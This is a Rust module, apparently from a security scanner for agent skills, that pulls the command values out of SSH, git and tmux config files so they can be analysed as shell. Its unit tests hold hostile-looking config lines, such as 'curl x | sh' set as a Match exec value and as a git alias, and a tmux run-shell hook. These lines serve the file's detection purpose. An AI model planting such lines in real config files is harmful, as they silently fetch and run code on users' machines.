//! Configuration files whose values are commands other programs run:
//! `ProxyCommand`/`LocalCommand` in an SSH client config, `!` aliases and
//! `core.sshCommand`/`core.fsmonitor` in a git config, `run-shell` in a
//! tmux config. A skill that ships such a file, or writes one, makes those
//! programs run the commands at their next start. Their text is shell:
//! kept at its offsets (everything else blanked), it is read as a script.

/// A configuration format whose values can be commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Format {
    Ssh,
    Git,
    Tmux,
}

/// SSH client keys whose value is a command.
const SSH_KEYS: [&str; 3] = ["proxycommand", "localcommand", "knownhostscommand"];
/// Git keys (the last part) whose value is a command.
const GIT_KEYS: [&str; 9] = [
    "sshcommand",
    "fsmonitor",
    "pager",
    "editor",
    "askpass",
    "external",
    "textconv",
    "clean",
    "smudge",
];
/// tmux commands that run a shell command.
const TMUX_COMMANDS: [&str; 4] = ["run-shell", "run", "if-shell", "if"];

/// The format of the file at `path` (a skill's file or one it writes).
pub(crate) fn format_of(path: &str) -> Option<Format> {
    let p = path.trim_matches(['"', '\'']).to_ascii_lowercase();
    let name = p.rsplit('/').next().unwrap_or(&p);
    let in_ssh = p.contains(".ssh/") || p.contains("/ssh/") || p.starts_with("ssh/");
    if name == "ssh_config" || (in_ssh && (name == "config" || name.ends_with(".conf"))) {
        return Some(Format::Ssh);
    }
    let git_config = name == ".gitconfig"
        || name == "gitconfig"
        || p.ends_with(".git/config")
        || p.ends_with("git/config")
        || name.ends_with(".gitconfig");
    if git_config {
        return Some(Format::Git);
    }
    (name == ".tmux.conf" || name == "tmux.conf").then_some(Format::Tmux)
}

/// `text` with only its command values left, each at its own offset.
pub(crate) fn to_shell(format: Format, text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let body = line.trim_end_matches(['\n', '\r']);
        let keep = command_in(format, body);
        for (i, c) in line.char_indices() {
            let kept = keep.as_ref().is_some_and(|r| r.contains(&i));
            if c == '\n' || kept {
                out.push(c);
            } else {
                out.extend(std::iter::repeat_n(' ', c.len_utf8()));
            }
        }
    }
    out
}

/// The byte range of the command in one line, if it holds one.
fn command_in(format: Format, line: &str) -> Option<std::ops::Range<usize>> {
    let start = line.len() - line.trim_start().len();
    let trimmed = line.trim();
    if trimmed.starts_with('#') || trimmed.starts_with(';') || trimmed.is_empty() {
        return None;
    }
    let (key, value) = split_key(format, trimmed)?;
    let key = key.to_ascii_lowercase();
    let value_at = start + (trimmed.len() - value.len());
    let range = match format {
        Format::Ssh if SSH_KEYS.contains(&key.as_str()) => value_at..line.len(),
        Format::Ssh if key == "match" => {
            let exec = value.to_ascii_lowercase().find("exec ")?;
            value_at + exec + 5..line.len()
        }
        Format::Git if value.starts_with('!') => value_at + 1..line.len(),
        Format::Git
            if GIT_KEYS.contains(&key.rsplit('.').next().unwrap_or(&key))
                && !matches!(value.to_ascii_lowercase().as_str(), "true" | "false") =>
        {
            value_at..line.len()
        }
        Format::Tmux if TMUX_COMMANDS.contains(&key.as_str()) => value_at..line.len(),
        _ => return None,
    };
    Some(unquote(line, range))
}

/// A line's key and value: `Key value`, `Key=value`, `key = value`.
fn split_key(format: Format, line: &str) -> Option<(&str, &str)> {
    let at = match format {
        Format::Git => line.find('=')?,
        _ => line.find([' ', '\t', '='])?,
    };
    let key = line[..at].trim();
    let value = line[at..].trim_start_matches(['=', ' ', '\t']).trim_end();
    (!key.is_empty() && !value.is_empty()).then_some((key, value))
}

/// The range without the options before it (`run-shell -b 'cmd'`) and
/// the quotes around it.
fn unquote(line: &str, mut range: std::ops::Range<usize>) -> std::ops::Range<usize> {
    loop {
        let text = &line[range.clone()];
        let rest = text.trim_start();
        range.start += text.len() - rest.len();
        if !rest.starts_with('-') {
            break;
        }
        let option = rest.find(char::is_whitespace).unwrap_or(rest.len());
        range.start += option;
    }
    let trimmed = line[range.clone()].trim_end();
    range.end = range.start + trimmed.len();
    let quoted = trimmed.len() >= 2
        && (trimmed.starts_with('\'') || trimmed.starts_with('"'))
        && trimmed.ends_with(&trimmed[..1]);
    if quoted {
        range.start += 1;
        range.end -= 1;
    }
    range
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kept(format: Format, text: &str) -> Vec<String> {
        to_shell(format, text)
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .map(str::to_owned)
            .collect()
    }

    #[test]
    fn commands_in_ssh_git_and_tmux_configs_are_kept_at_their_offsets() {
        let ssh = "Host *\n    ControlMaster auto\n    LocalCommand sh -c 'id'\nMatch exec \"curl x | sh\"\n";
        assert_eq!(kept(Format::Ssh, ssh), ["sh -c 'id'", "curl x | sh"]);
        assert_eq!(to_shell(Format::Ssh, ssh).len(), ssh.len());
        let git = "[alias]\n\tst = status\n\tup = !curl -s x | sh\n[core]\n\tfsmonitor = ./hook\n\tpager = less\n\tfsmonitor = true\n";
        assert_eq!(kept(Format::Git, git), ["curl -s x | sh", "./hook", "less"]);
        let tmux = "set -g mouse on\nrun-shell -b 'sh ~/.x'\n";
        assert_eq!(kept(Format::Tmux, tmux), ["sh ~/.x"]);
    }

    #[test]
    fn settings_that_are_no_commands_are_blank() {
        let ssh = "Host prod\n  User deploy\n  IdentityFile ~/.ssh/id_ed25519\n  # ProxyCommand nc %h %p\n";
        assert!(kept(Format::Ssh, ssh).is_empty());
        assert!(kept(Format::Git, "[user]\n\tname = A\n\temail = a@b.c\n").is_empty());
    }

    #[test]
    fn formats_go_by_path() {
        assert_eq!(format_of("~/.ssh/config"), Some(Format::Ssh));
        assert_eq!(format_of("/etc/ssh/ssh_config"), Some(Format::Ssh));
        assert_eq!(format_of("config/team.gitconfig"), Some(Format::Git));
        assert_eq!(format_of("~/.gitconfig"), Some(Format::Git));
        assert_eq!(format_of("~/.tmux.conf"), Some(Format::Tmux));
        assert_eq!(format_of("config.yaml"), None);
        assert_eq!(format_of("app/config"), None);
    }
}
